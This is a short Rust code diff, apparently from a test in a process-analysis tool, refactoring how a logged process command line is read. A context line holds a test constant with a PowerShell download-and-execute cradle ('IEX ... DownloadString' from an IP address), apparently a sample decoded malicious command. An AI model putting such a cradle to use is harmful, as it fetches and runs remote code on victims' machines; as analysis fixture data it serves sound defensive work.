@@ -13,7 +13,9 @@ const DECODED: &str = "IEX (New-Object Net.WebClient).DownloadString('http://198
 fn command_line(window: &Window) -> String {
     let session = window.state().session();
     let found = session.analysis().tree.iter().find(|(_, process)| process.pid == Some(11_872));
-    found.and_then(|(_, process)| process.command_line.clone()).expect("it is logged")
+    found
+        .and_then(|(_, process)| process.command_line.as_ref().map(String::from))
+        .expect("it is logged")
 }
 
 /// The small command at the right of a section's title.
